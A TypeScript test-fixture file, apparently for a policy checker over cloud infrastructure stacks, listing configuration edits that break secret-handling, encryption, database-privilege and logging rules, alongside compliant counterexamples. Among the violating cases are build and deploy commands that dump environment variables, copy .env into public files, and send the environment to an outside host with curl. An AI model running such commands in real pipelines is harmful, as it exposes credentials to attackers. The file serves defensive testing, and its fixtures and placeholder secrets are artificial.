import { unknownText } from "../../policies/framework/value.ts";
import { cloudflare, github, postgresql, random, render, vercel } from "../../policies/model/tokens.ts";
import {
  add,
  all,
  append,
  type Edit,
  encrypted,
  type Inputs,
  leading,
  list,
  set,
  variables,
} from "../recording/edited.ts";
import type { Case } from "./kinds-edits.ts";

// Secrets that something beside production has, generators that show what they make, and loggers by other switches.

const beside = (name: string, inputs: Inputs, type: string = vercel.variable): Edit =>
  add(type, "another", { sensitive: true, ...inputs }, { beside: name, by: "value" });
const previews = { targets: ["preview"] };
const generator = "secrets-jwt-secret";
/** A resource with a property that is made from the generator. */
const given = (type: string, name: string, property: string, inputs: Inputs): Edit =>
  all(add(type, name, { [property]: unknownText, ...inputs }), leading(name, property, generator));
const entries = (type: string, name: string, property: string): Edit =>
  given(type, name, property, {
    [property]: [{ key: "AUTH_SECRET", value: unknownText, sensitive: true, ...previews }],
  });

const made =
  (type: string, options: Inputs = {}): Edit =>
  (stack) => ({
    ...stack,
    resources: stack.resources.map((one) =>
      one.name === generator
        ? { ...one, type, options: { ...one.options, additionalSecretOutputs: [], ...options } }
        : one,
    ),
  });

const auth = (change: Inputs): Edit =>
  set("database-settings", (inputs) => ({
    auth: JSON.stringify({ ...Object(JSON.parse(String(inputs.auth ?? "{}"))), ...change }),
  }));

const managed = (overrides: Inputs): Edit =>
  set("edge-waf-managed", ({ rules }) => ({
    rules: list(rules).map((rule, place) => {
      const { actionParameters, ...rest } = Object(rule);
      return place > 0 ? rule : { ...rest, actionParameters: { ...actionParameters, overrides } };
    }),
  }));

const file = (name: string, content: string): Edit =>
  set("api-service", () => ({ secretFiles: { [name]: { content } } }));

const document = (text: string): Edit =>
  add("pulumiservice:index:Environment", "credentials", { name: "production", yaml: { text } });

const build = (buildCommand: string): Edit => set("web-project", () => ({ buildCommand }));
const worker = (inputs: Inputs): Edit =>
  add(render.backgroundWorker, "digests", {
    name: "digests",
    plan: "starter",
    region: "frankfurt",
    startCommand: "npm run digests",
    ...inputs,
  });

/** Commands that show nothing of their variables, or what anybody may see. */
const quietCommands: readonly (readonly [what: string, edit: Edit])[] = [
  ["a command asks whether a variable is there", build('test -n "$DATABASE_URL" && npm run build')],
  ["a command names the release", build('echo "Release $VERCEL_GIT_COMMIT_SHA" && npm run build')],
  [
    "a command signs in to a registry",
    build('echo "//npm.example/:_authToken=$NPM_TOKEN" > .npmrc && npm ci'),
  ],
  ["a command stops at the first error and says what it runs", build("set -ex; npm ci; npm run build")],
  ["a build has a key that browsers get", build("NEXT_PUBLIC_MAPBOX_TOKEN=$MAPBOX_TOKEN npm run build")],
  ["a worker is started with a variable of its own", worker({ startCommand: "env QUEUE=mail npm run mail" })],
];

export const sharedSecrets: readonly Case[] = [
  ["commands-keep-secrets", "a build prints them", build("env | sort && npm run build")],
  [
    "commands-keep-secrets",
    "a build puts them beside the pages",
    build('node -p "JSON.stringify(process.env)" > public/env.json && npm run build'),
  ],
  ["commands-keep-secrets", "a build gives browsers one", build("VITE_KEY=$SECRET_KEY npm run build")],
  [
    "commands-keep-secrets",
    "the question whether to build prints them",
    set("web-project", () => ({ ignoreCommand: "printenv; npx turbo-ignore" })),
  ],
  [
    "commands-keep-secrets",
    "a command sends them away",
    set("api-service", () => ({
      preDeployCommand: 'curl -d "$(env)" https://example.com && npm run migrate',
    })),
  ],
  [
    "commands-keep-secrets",
    "a worker's command traces them",
    worker({ startCommand: 'sh -xc "psql $DIRECT_URL"' }),
  ],
  [
    "commands-keep-secrets",
    "a worker's release copies a file",
    worker({ preDeployCommand: "cp .env public/" }),
  ],
  [
    "commands-keep-secrets",
    "the build of a site prints them",
    add(render.staticSite, "docs", { name: "docs", buildCommand: "set && npm run docs" }),
  ],
  [
    "commands-keep-secrets",
    "the backup's command prints one",
    set("backups-job", () => ({ startCommand: "echo $DATABASE_URL" })),
  ],
  [
    "secrets-not-shared",
    "an environment of the project's own has the secret",
    set("web-JWT_SECRET", () => ({ customEnvironmentIds: [unknownText] })),
  ],
  [
    "secrets-not-shared",
    "previews have it by a variable of another name",
    beside("web-JWT_SECRET", { key: "AUTH_SECRET", ...previews }),
  ],
  [
    "secrets-not-shared",
    "previews have it by a variable of the team",
    beside("web-JWT_SECRET", { key: "JWT_SECRET", ...previews }, vercel.sharedVariable),
  ],
  [
    "secrets-not-shared",
    "an environment of the project's own has it alone",
    beside("web-SECRET_KEY", { key: "SECRET_KEY", targets: [], customEnvironmentIds: [unknownText] }),
  ],
  [
    "secrets-not-shared",
    "previews have the database",
    beside("web-DATABASE_URL", { key: "DATABASE_URL", ...previews }),
  ],
  ["secrets-not-shared", "previews have it in a list", entries(vercel.variables, "previews", "variables")],
  [
    "secrets-not-shared",
    "a preview is deployed with it",
    given(vercel.deployment, "hotfix", "environment", {
      ref: "fix/login",
      environment: { AUTH_SECRET: unknownText },
    }),
  ],
  [
    "secret-variables-sensitive",
    "a variable of workflows shows it",
    given(github.actionsVariable, "shown", "value", { repository: "optropic", variableName: "SIGNING" }),
  ],
  [
    "secret-variables-sensitive",
    "a binding of a Worker shows it",
    add(cloudflare.worker, "checkout", {
      accountId: "0123456789abcdef0123456789abcdef",
      scriptName: "checkout",
      bindings: [{ name: "JWT_SECRET", type: "plain_text", text: unknownText }],
    }),
  ],
  [
    "secret-variables-sensitive",
    "an Edge Config shows it",
    add(vercel.edgeConfigItem, "shown", { edgeConfigId: "ecfg_1", key: "SECRET_KEY", value: unknownText }),
  ],
  [
    "secret-variables-sensitive",
    "an Edge Config shows what is made, under a plain name",
    given(vercel.edgeConfigItem, "shown", "valueJson", { edgeConfigId: "ecfg_1", key: "signing" }),
  ],
  [
    "secret-variables-sensitive",
    "Workers KV shows it",
    given(cloudflare.keyValue, "shown", "value", {
      accountId: "0123456789abcdef0123456789abcdef",
      namespaceId: unknownText,
      keyName: "signing",
    }),
  ],
  [
    "secrets-not-shared",
    "a preview is deployed with it, among what is unknown",
    given(vercel.deployment, "hotfix", "environment", { ref: "fix/login" }),
  ],
  ["secrets-generated", "the generator shows it", made(random.string)],
  [
    "no-literal-secrets",
    "a role has a password that is only written",
    set("database-application-role", () => ({
      password: undefined,
      passwordWo: "autumn-optropic-base",
      passwordWoVersion: "1",
    })),
  ],
  [
    "no-literal-secrets",
    "a database elsewhere has one",
    add("aws:rds/instance:Instance", "archive", { passwordWo: "autumn-optropic-base", passwordWoVersion: 1 }),
  ],
  [
    "no-literal-secrets",
    "a parameter has a value that is only written",
    add("aws:ssm/parameter:Parameter", "queue", {
      name: "QUEUE_PASSWORD",
      type: "SecureString",
      valueWo: "autumn-optropic-base",
    }),
  ],
  [
    "secrets-encrypted",
    "a password that is only written is not marked",
    set("database-application-role", ({ password }) => ({ password: undefined, passwordWo: password })),
  ],
  [
    "no-literal-secrets",
    "a file of passwords",
    file(".pgpass", "db.optropic.example:5432:postgres:optropic_application:Zx3Vb6Nm9Wt4Yc1H\n"),
  ],
  [
    "no-literal-secrets",
    "a file of logins",
    file(".netrc", "machine npm.optropic.example login ci password Zx3Vb6Nm9Wt4Yc1H\n"),
  ],
  [
    "no-literal-secrets",
    "a token in the place of a user",
    variables({ GIT_URL: "https://9WtYc1Hp5Gj8Ua2Ek7Rd0LqS@git.optropic.example/app.git" }),
  ],
  [
    "no-literal-secrets",
    "a rule that compares a header with a secret",
    append("edge-waf-custom", "rules", {
      action: "block",
      enabled: true,
      description: "internal",
      expression:
        '(http.request.uri.path eq "/internal" and http.request.headers["x-api-key"][0] ne "9WtYc1Hp5Gj8Ua2Ek7Rd0LqS")',
    }),
  ],
  [
    "no-literal-secrets",
    "a rule that compares any of several headers with a secret",
    append("edge-waf-custom", "rules", {
      action: "block",
      enabled: true,
      description: "internal",
      expression: 'any(http.request.headers["x-api-key"][*] eq "9WtYc1Hp5Gj8Ua2Ek7Rd0LqS")',
    }),
  ],
  [
    "no-literal-secrets",
    "a value that a Worker reads by the name of a secret",
    add("cloudflare:index/workersKv:WorkersKv", "kept", {
      accountId: "0123456789abcdef0123456789abcdef",
      namespaceId: "0f",
      keyName: "stripe-secret-key",
      value: "9WtYc1Hp5Gj8Ua2Ek7Rd0LqS",
    }),
  ],
  [
    "no-literal-secrets",
    "a document of elements",
    file("config.xml", "<sessions><secret>Zx3Vb6Nm9Wt4Yc1Hp5Gj8Ua2</secret></sessions>"),
  ],
  [
    "no-literal-secrets",
    "a document of lines",
    file("config.yaml", "sessions:\n  secret: Zx3Vb6Nm9Wt4Yc1Hp5Gj8Ua2\n"),
  ],
  [
    "database-role-least-privilege",
    "every role may write to tables to come",
    add(postgresql.defaultPrivileges, "everybody", {
      database: "postgres",
      role: "public",
      owner: "postgres",
      schema: "public",
      objectType: "table",
      privileges: ["SELECT", "INSERT"],
    }),
  ],
  [
    "database-role-least-privilege",
    "every role may make objects in a schema",
    add(postgresql.schema, "orders", {
      name: "orders",
      policies: [{ create: true, usage: true, role: "public" }],
    }),
  ],
  [
    "connections-encrypted",
    "the database copies from another in plain text",
    add(postgresql.subscription, "copy", {
      name: "copy",
      conninfo: "host=r.optropic.example dbname=r sslmode=disable",
      publications: ["orders"],
    }),
  ],
  ...["hostaddr=192.0.2.7 dbname=r", "service=reports", "reports"].map(
    (conninfo): Case => [
      "connections-encrypted",
      `the database copies by ${conninfo}`,
      add(postgresql.subscription, "copy", { name: "copy", conninfo, publications: ["orders"] }),
    ],
  ),
  [
    "connections-encrypted",
    "the database reads another in plain text",
    add(postgresql.server, "reports", {
      serverName: "reports",
      fdwName: "postgres_fdw",
      options: { host: "r.optropic.example", dbname: "r" },
    }),
  ],
  ["log-format-json", "the logger's own level is silent", variables({ PINO_LOG_LEVEL: "Silent" })],
  ["log-format-json", "the level is the number of fatal errors", variables({ APP_LOG_LEVEL: "60" })],
  ["log-format-json", "a level above errors", variables({ LOG_LEVEL: "critical" })],
  ["log-format-json", "the logger is off", variables({ LOG_ENABLED: "false" })],
  ["log-format-json", "the logger is disabled", variables({ DISABLE_LOGGING: "1" })],
  [
    "log-format-json",
    "the command makes it silent",
    set("api-service", () => ({ startCommand: "node dist/server.js --log-level=silent" })),
  ],
  ["log-level-quiet", "the logger's own level is debug", variables({ PINO_LOG_LEVEL: "debug" })],
  ["log-without-statements", "the pages print", variables({ NEXT_PUBLIC_DEBUG: "true" })],
  ["log-without-statements", "the client prints queries", variables({ PRISMA_CLIENT_LOG: "query,info" })],
  ["log-without-statements", "its engine prints them", variables({ RUST_LOG: "quaint=trace" })],
  ["log-without-statements", "bodies are printed", variables({ LOG_REQUEST_BODY: "1" })],
  [
    "log-without-statements",
    "a command before each release has the server print them",
    set("api-service", () => ({
      preDeployCommand:
        'psql "$DIRECT_URL" -c "alter role app set log_statement = \'all\'" && npx prisma migrate status',
    })),
  ],
  [
    "log-without-statements",
    "a connection has the server print them",
    variables({ REPORTS_OPTIONS: "-c log_min_duration_statement=0" }),
  ],
  ["supabase-sign-in", "tokens are renewed without limit", auth({ rate_limit_token_refresh: 1_000_000 })],
  ["waf-managed-rules", "the rules take almost anything", managed({ sensitivityLevel: "eoff" })],
  ["error-tracking-scrubs", "the project keeps all", set("errors-project", () => ({ dataScrubber: false }))],
  [
    "error-tracking-scrubs",
    "the project keeps passwords",
    set("errors-project", () => ({ safeFields: ["id", "password"] })),
  ],
];

export const ownSecrets: readonly (readonly [what: string, Edit])[] = [
  ...quietCommands,
  [
    "previews with a secret of their own",
    all(
      add(random.password, "preview-secret", { length: 64, special: false }),
      add(vercel.variable, "preview", {
        key: "JWT_SECRET",
        value: unknownText,
        sensitive: true,
        projectId: unknownText,
        ...previews,
      }),
      leading("preview", "value", "preview-secret"),
      encrypted("preview", "value"),
    ),
  ],
  [
    "a name with a few random letters",
    all(
      add(random.string, "suffix", { length: 8, special: false }),
      beside("web-LOG_LEVEL", {
        key: "BUCKET_SUFFIX",
        value: unknownText,
        targets: ["production"],
        sensitive: false,
        projectId: unknownText,
      }),
      leading("another", "value", "suffix"),
    ),
  ],
  ["a generator whose result is encrypted", made(random.string, { additionalSecretOutputs: ["result"] })],
  [
    "previews with the address of the error tracker",
    beside("web-SENTRY_DSN", { key: "SENTRY_DSN", projectId: unknownText, ...previews }),
  ],
  [
    "loggers at their usual levels",
    variables({
      PINO_LOG_LEVEL: "info",
      OTEL_LOG_LEVEL: "none",
      NPM_CONFIG_LOGLEVEL: "silent",
      LOG_ENABLED: "true",
      DEBUG: "",
      RUST_LOG: "warn,app=info",
    }),
  ],
  [
    "variables of workflows that are no secrets",
    add(github.actionsVariable, "region", {
      repository: "optropic",
      variableName: "REGION",
      value: "eu-central-1",
    }),
  ],
  [
    "an Edge Config and Workers KV with switches and texts",
    all(
      add(vercel.edgeConfigItem, "greeting", {
        edgeConfigId: unknownText,
        key: "greeting",
        value: "Welcome",
      }),
      add(vercel.edgeConfigItem, "flags", {
        edgeConfigId: unknownText,
        key: "flags",
        valueJson: { checkout: true, newSearch: false },
      }),
      add(vercel.edgeConfigItem, "requires", {
        edgeConfigId: unknownText,
        key: "require-token",
        valueJson: true,
      }),
      add(cloudflare.keyValue, "region", {
        accountId: "0123456789abcdef0123456789abcdef",
        namespaceId: unknownText,
        keyName: "region",
        value: "eu-central-1",
      }),
    ),
  ],
  [
    "a Worker with a secret and a plain text",
    all(
      add(cloudflare.worker, "checkout", {
        accountId: "0123456789abcdef0123456789abcdef",
        scriptName: "checkout",
        bindings: [
          { name: "JWT_SECRET", type: "secret_text", text: unknownText },
          { name: "REGION", type: "plain_text", text: "eu-central-1" },
        ],
      }),
      encrypted("checkout", "bindings"),
    ),
  ],
  [
    "a command that has the server log what is slow, and nothing else",
    set("api-service", () => ({
      preDeployCommand:
        'psql "$DIRECT_URL" -c "alter role app set log_min_duration_statement = \'2s\'" && npx prisma migrate deploy',
    })),
  ],
  [
    "a database that reads another by TLS",
    add(postgresql.server, "reports", {
      serverName: "reports",
      fdwName: "postgres_fdw",
      options: { host: "r.optropic.example", dbname: "r", sslmode: "verify-full" },
    }),
  ],
  [
    "a schema that every role may use",
    add(postgresql.schema, "orders", { name: "orders", policies: [{ usage: true, role: "public" }] }),
  ],
  [
    "the address of another project's errors",
    variables({ JOBS_DSN: "https://0f1e2d3c4b5a69788796a5b4c3d2e1f0@o1.ingest.de.sentry.io/2" }),
  ],
  [
    "the address of errors at a server of the company",
    variables({ JOBS_DSN: "https://0f1e2d3c4b5a69788796a5b4c3d2e1f0@errors.optropic.example/2" }),
  ],
  [
    "a rule that looks for a cookie by its name",
    set("edge-waf-custom", ({ rules }) => ({
      rules: list(rules).map((rule, place) =>
        place > 0
          ? rule
          : {
              ...Object(rule),
              expression: `(${Object(rule).expression}) and not http.cookie contains "experiment-2026Q3="`,
            },
      ),
    })),
  ],
  [
    "a variable of workflows with a few random letters",
    all(
      add(random.id, "suffix", { byteLength: 4 }),
      add(github.actionsVariable, "bucket", {
        repository: "optropic",
        variableName: "BUCKET",
        value: unknownText,
      }),
      leading("bucket", "value", "suffix"),
    ),
  ],
  ["tokens renewed as often as by default", auth({ rate_limit_token_refresh: 150 })],
  [
    "a generated password that is only written",
    all(
      set("database-application-role", ({ password }) => ({
        password: undefined,
        passwordWo: password,
        passwordWoVersion: "2026-11-rotation",
      })),
      encrypted("database-application-role", "passwordWo"),
    ),
  ],
];

export const writtenDocuments: readonly Case[] = [
  [
    "no-literal-secrets",
    "an environment has a key in plain text",
    document("values:\n  environmentVariables:\n    VERCEL_API_TOKEN: 9WtYc1Hp5Gj8Ua2Ek7Rd0LqS\n"),
  ],
  [
    "no-literal-secrets",
    "an environment has a secret that only its keeper encrypts",
    document("values:\n  vercel:\n    token:\n      fn::secret: 9WtYc1Hp5Gj8Ua2Ek7Rd0LqS\n"),
  ],
];

export const referredDocuments: readonly (readonly [what: string, Edit])[] = [
  [
    "an environment with encrypted and borrowed credentials",
    document(
      [
        "values:",
        "  vercel:",
        "    token:",
        "      fn::secret:",
        "        ciphertext: ZXNjeAAAAAEAAAEAZ3v4Rr0mQ8b1Xc7d9Lk2Tq5Wn6Yp3Eu0FgHi=",
        "  aws:",
        "    login:",
        "      fn::open::aws-login:",
        "        oidc:",
        "          roleArn: arn:aws:iam::123456789012:role/deploy",
        "  environmentVariables:",
        `    VERCEL_API_TOKEN: \${vercel.token}`,
        "    PASSWORD: required",
      ].join("\n"),
    ),
  ],
];
